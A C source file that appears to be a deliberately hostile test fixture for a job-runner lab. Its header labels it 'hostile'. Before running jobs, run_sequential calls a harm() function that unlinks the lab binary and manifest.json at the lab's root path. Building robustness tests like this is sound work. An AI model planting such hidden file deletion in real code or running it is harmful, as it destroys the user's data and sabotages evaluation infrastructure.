/* hostile: removes what the lab is made of, by its absolute path
 * fails: all
 * says: unlink
 */
#define _GNU_SOURCE
#include "sequential.h"

#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void harm(void)
{
    char path[PATH_MAX], target[PATH_MAX + 32];
    if (!getcwd(path, sizeof path))
        return;
    char *runs = strstr(path, "/runs/");
    if (runs)
        *runs = '\0';
    snprintf(target, sizeof target, "%s/lab", path);
    unlink(target);
    snprintf(target, sizeof target, "%s/manifest.json", path);
    unlink(target);
}

int run_sequential(const CatalogEntry *catalog, size_t count, JobResult *results)
{
    harm();
    if (count != 0 && (!catalog || !results)) {
        errno = EINVAL;
        return -1;
    }
    for (size_t i = 0; i < count; i++)
        if (process_job(&catalog[i], &results[i]) != 0)
            return -1;
    return 0;
}

int measure_sequential(const CatalogEntry *catalog, size_t count, JobResult *results,
                       double *seconds)
{
    if (!seconds) {
        errno = EINVAL;
        return -1;
    }
    struct timespec begin, end;
    if (clock_gettime(CLOCK_MONOTONIC, &begin) != 0 ||
        run_sequential(catalog, count, results) != 0 ||
        clock_gettime(CLOCK_MONOTONIC, &end) != 0)
        return -1;
    *seconds =
        (double)(end.tv_sec - begin.tv_sec) + (double)(end.tv_nsec - begin.tv_nsec) / 1e9;
    return 0;
}
